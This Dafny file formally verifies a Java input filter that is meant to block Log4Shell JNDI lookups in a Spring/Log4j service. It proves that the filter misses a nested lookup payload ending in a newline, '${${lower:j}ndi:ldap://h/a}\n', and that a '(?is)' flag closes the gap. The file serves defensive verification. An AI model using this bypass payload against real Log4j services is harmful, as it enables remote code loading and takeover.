/**
 * `LogController.logInput` of the hardened Spring/Log4j service: refuse an
 * input that mentions a JNDI lookup or holds a `${...}` lookup, and echo
 * everything else.
 */
module LogController {
  import opened Wrappers
  import opened Text
  import opened JavaRegex

  const Blocked := "Suspicious input was blocked"
  const JndiMarker := "jndi:"
  const LoggedPrefix := "Logged: "

  /** `\}.*` */
  const LookupTail: Regex := Concat(Literal('}'), Repeat(AnyChar))
  /** `.*\}.*` */
  const LookupBody: Regex := Concat(Repeat(AnyChar), LookupTail)
  /** `\$\{.*\}.*` */
  const LookupHead: Regex := Concat(Literal('$'), Concat(Literal('{'), LookupBody))
  /** `.*\$\{.*\}.*`, the pattern of `"(?i).*\\$\\{.*\\}.*"` after its flag group. */
  const LookupPattern: Regex := Concat(Repeat(AnyChar), LookupHead)

  /** `(?i)` */
  const PatternFlags := Flags(caseInsensitive := true, dotAll := false)

  /** What Java's string concatenation makes of the input: `null` prints as "null". */
  function Render(input: Option<string>): string {
    input.GetOr("null")
  }

  /** The first rule: `input.toLowerCase().contains("jndi:")`. */
  predicate MentionsJndi(s: string) {
    Contains(LowerAscii(s), JndiMarker)
  }

  /** `${` starts at index `i`. */
  predicate OpensAt(s: string, i: int) {
    0 <= i && i + 1 < |s| && s[i] == '$' && s[i + 1] == '{'
  }

  /** A `}` occurs after the `${` that starts at `i`. */
  predicate ClosesAfter(s: string, i: int) {
    exists j :: 0 <= j < |s| && i + 2 <= j && s[j] == '}'
  }

  /** `${` followed somewhere later by `}`. */
  predicate OpenThenClose(s: string) {
    exists i :: 0 <= i < |s| && OpensAt(s, i) && ClosesAfter(s, i)
  }

  predicate NoLineTerminator(s: string) {
    forall i :: 0 <= i < |s| ==> !IsLineTerminator(s[i])
  }

  /** The second rule without regular expressions. */
  predicate HasLookup(s: string) {
    NoLineTerminator(s) && OpenThenClose(s)
  }

  /** `.*\}.*` on `t`: `t` is made of `.`-characters and holds a `}`. */
  lemma MiddleMatches(t: string, flags: Flags)
    ensures FullMatch(LookupBody, t, flags) <==>
      AllDotMatch(t, flags) && exists j :: 0 <= j < |t| && t[j] == '}'
  {
    DotsAroundLiteral('}', t, flags);
  }

  /** The part of the pattern from `\$` on, matched against the suffix of `s` that starts at `k`. */
  lemma OpenMatchesAt(s: string, k: int, flags: Flags)
    requires 0 <= k <= |s|
    ensures FullMatch(LookupHead, s[k..], flags) <==>
      OpensAt(s, k) && ClosesAfter(s, k) && AllDotMatch(s[k + 2..], flags)
  {
    ConcatLiteral('$', Concat(Literal('{'), LookupBody), s[k..], flags);
    if k < |s| && s[k] == '$' {
      assert s[k..][1..] == s[k + 1..];
      ConcatLiteral('{', LookupBody, s[k + 1..], flags);
      if k + 1 < |s| && s[k + 1] == '{' {
        var t := s[k + 2..];
        assert s[k + 1..][1..] == t;
        MiddleMatches(t, flags);
        if exists j :: 0 <= j < |t| && t[j] == '}' {
          var j :| 0 <= j < |t| && t[j] == '}';
          assert s[k + 2 + j] == '}';
        }
        if ClosesAfter(s, k) {
          var j :| k + 2 <= j < |s| && s[j] == '}';
          assert t[j - k - 2] == '}';
        }
      }
    }
  }

  /** Around a `${` at `k`, the string is made of `.`-characters exactly when the parts before and after are. */
  lemma DotSplit(s: string, k: int, flags: Flags)
    requires OpensAt(s, k)
    ensures AllDotMatch(s, flags) <==> AllDotMatch(s[..k], flags) && AllDotMatch(s[k + 2..], flags)
  {
    assert s == s[..k] + [s[k], s[k + 1]] + s[k + 2..];
    AllDotConcat(s[..k], [s[k], s[k + 1]], flags);
    AllDotConcat(s[..k] + [s[k], s[k + 1]], s[k + 2..], flags);
  }

  /**
   * Whole-string matching of the lookup pattern, without regular
   * expressions: every character is one `.` matches, and a `${` is followed
   * later by `}`. The case flag plays no part: the pattern holds no letter.
   */
  lemma LookupPatternMatches(s: string, flags: Flags)
    ensures FullMatch(LookupPattern, s, flags) <==> AllDotMatch(s, flags) && OpenThenClose(s)
  {
    ConcatAnyPrefix(LookupHead, s, flags);
    if FullMatch(LookupPattern, s, flags) {
      var k :| 0 <= k <= |s| && AllDotMatch(s[..k], flags) && FullMatch(LookupHead, s[k..], flags);
      OpenMatchesAt(s, k, flags);
      DotSplit(s, k, flags);
    }
    if AllDotMatch(s, flags) && OpenThenClose(s) {
      var k :| 0 <= k < |s| && OpensAt(s, k) && ClosesAfter(s, k);
      DotSplit(s, k, flags);
      OpenMatchesAt(s, k, flags);
    }
  }

  /** `logInput(input)`, with `None` for a `null` input. */
  ghost function LogInput(input: Option<string>): (r: string)
    ensures r == Blocked || r == LoggedPrefix + Render(input)
    ensures input.None? ==> r == "Logged: null"
  {
    if input.Some? && MentionsJndi(input.value) then Blocked
    else if input.Some? && FullMatch(LookupPattern, input.value, PatternFlags) then Blocked
    else LoggedPrefix + Render(input)
  }

  /**
   * `logInput` without regular expressions and without an order between its
   * rules: an input is refused exactly when it mentions `jndi:` in any case,
   * or has a `${`, a later `}` and no line terminator; every other input,
   * `null` included, is echoed after "Logged: ".
   */
  lemma LogInputDecided(input: Option<string>)
    ensures LogInput(input) ==
      if input.Some? && (MentionsJndi(input.value) || HasLookup(input.value)) then Blocked
      else LoggedPrefix + Render(input)
    ensures LogInput(input) == Blocked <==> input.Some? && (MentionsJndi(input.value) || HasLookup(input.value))
  {
    if input.Some? {
      LookupPatternMatches(input.value, PatternFlags);
      assert AllDotMatch(input.value, PatternFlags) <==> NoLineTerminator(input.value);
    }
    assert (LoggedPrefix + Render(input))[0] != Blocked[0];
  }

  /** A mention of `jndi:` needs a `j` or `J` followed by an `n` or `N`. */
  lemma MentionNeedsJn(s: string)
    requires MentionsJndi(s)
    ensures exists i :: 0 <= i < |s| - 1 && ToLowerAscii(s[i]) == 'j' && ToLowerAscii(s[i + 1]) == 'n'
  {
    var i :| 0 <= i <= |LowerAscii(s)| && OccursAt(LowerAscii(s), JndiMarker, i);
    assert LowerAscii(s)[i..i + 5][0] == LowerAscii(s)[i];
    assert LowerAscii(s)[i..i + 5][1] == LowerAscii(s)[i + 1];
  }

  /** The first rule ignores the case of the letters of `jndi:`. */
  lemma JndiCaseVariantsBlocked()
    ensures LogInput(Some("JNDI:x")) == Blocked
    ensures LogInput(Some("${JnDi:ldap://h/a}")) == Blocked
  {
    assert OccursAt(LowerAscii("JNDI:x"), JndiMarker, 0);
    assert OccursAt(LowerAscii("${JnDi:ldap://h/a}"), JndiMarker, 2);
  }

  /** A `${` that is never closed is let through. */
  lemma UnclosedLookupLogged()
    ensures LogInput(Some("${abc")) == "Logged: ${abc"
  {
    var s := "${abc";
    LogInputDecided(Some(s));
    assert !OpenThenClose(s) by {
      forall i | 0 <= i < |s| && OpensAt(s, i) ensures !ClosesAfter(s, i) {
        assert i == 0;
      }
    }
    if MentionsJndi(s) { MentionNeedsJn(s); }
  }

  /** A closed lookup followed by a newline is let through: `.` does not match the newline. */
  lemma LookupWithNewlineLogged()
    ensures LogInput(Some("${abc}\n")) == "Logged: ${abc}\n"
  {
    var s := "${abc}\n";
    LogInputDecided(Some(s));
    assert IsLineTerminator(s[6]);
    if MentionsJndi(s) { MentionNeedsJn(s); }
  }

  /**
   * A nested lookup spells `jndi:` only after Log4j resolves `${lower:j}`,
   * so the first rule misses it; the trailing newline keeps `.*` from
   * spanning the input, so the second rule misses it too.
   */
  const NestedLookupWithNewline := "${${lower:j}ndi:ldap://h/a}\n"

  /** The second rule as evidently intended: `(?is)`, so that `.` also matches line terminators. */
  const DotAllFlags := Flags(caseInsensitive := true, dotAll := true)

  /** `logInput` with the lookup pattern compiled under `(?is)`. */
  ghost function LogInputDotAll(input: Option<string>): (r: string)
    ensures r == Blocked || r == LoggedPrefix + Render(input)
    ensures input.None? ==> r == "Logged: null"
  {
    if input.Some? && MentionsJndi(input.value) then Blocked
    else if input.Some? && FullMatch(LookupPattern, input.value, DotAllFlags) then Blocked
    else LoggedPrefix + Render(input)
  }

  /** With `(?is)` every `${` followed later by `}` is refused, line terminators or not. */
  lemma LogInputDotAllBlocksEveryLookup(s: string)
    ensures LogInputDotAll(Some(s)) == Blocked <==> MentionsJndi(s) || OpenThenClose(s)
  {
    LookupPatternMatches(s, DotAllFlags);
    assert (LoggedPrefix + s)[0] != Blocked[0];
  }

  /** The filter as written lets the nested lookup through; the `(?is)` filter refuses it. */
  lemma NestedLookupWithNewlineBypasses()
    ensures LogInput(Some(NestedLookupWithNewline)) == LoggedPrefix + NestedLookupWithNewline
    ensures LogInputDotAll(Some(NestedLookupWithNewline)) == Blocked
  {
    var s := NestedLookupWithNewline;
    LogInputDecided(Some(s));
    assert IsLineTerminator(s[|s| - 1]);
    if MentionsJndi(s) {
      MentionNeedsJn(s);
    }
    LogInputDotAllBlocksEveryLookup(s);
    assert OpensAt(s, 0) && s[26] == '}';
  }
}
